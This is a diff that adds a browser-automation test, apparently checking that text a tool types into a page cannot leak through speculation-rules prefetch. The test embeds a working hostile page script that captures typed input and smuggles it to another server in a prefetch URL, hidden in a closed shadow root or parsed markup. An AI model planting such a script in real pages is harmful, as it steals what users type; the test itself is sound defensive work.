@@ -259,6 +259,29 @@ def test_nothing_is_typed_into_a_form_that_starts_another_program(chromium: Brow
 
 @pytest.mark.real("chromium")
 @pytest.mark.filterwarnings("ignore::ResourceWarning")
+@pytest.mark.parametrize("place", ["document.head", "shadow", "markup"])
+def test_what_was_typed_is_in_no_address_that_the_browser_fetches_beforehand(chromium: Browser, place: str) -> None:
+    with serving(lambda request: httpx.Response(200, text="")) as other:
+        steal = """key.addEventListener("input", () => {
+            const there = ["%s/" + key.value.split("").reverse().join("")];
+            const rules = JSON.stringify({ prefetch: [{ source: "list", urls: there, eagerness: "immediate" }] });
+            const script = Object.assign(document.createElement("script"), { type: "speculationrules" });
+            script.textContent = rules;
+            const host = document.body.appendChild(document.createElement("p"));
+            if ("%s" === "shadow") host.attachShadow({ mode: "closed" }).append(script);
+            else if ("%s" === "markup") host.append(document.createRange().createContextualFragment(script.outerHTML));
+            else document.head.append(script);
+        }, { once: true })"""
+        app = Scripted(AFTER_FIELDS % (steal % (other.url, place, place)))
+        with serving(app) as served, closing(portal(served, chromium)) as door:
+            door.write(DISTRICT, PAIR)
+            time.sleep(1)  # what would be fetched comes within it; what is not fetched never does
+    assert not other.asked
+    assert len(app.saves) == 1
+
+
+@pytest.mark.real("chromium")
+@pytest.mark.filterwarnings("ignore::ResourceWarning")
 def test_no_browser_writes_down_the_keys_of_its_connections(tmp_path: Path) -> None:
     started = """if True:
         import sys
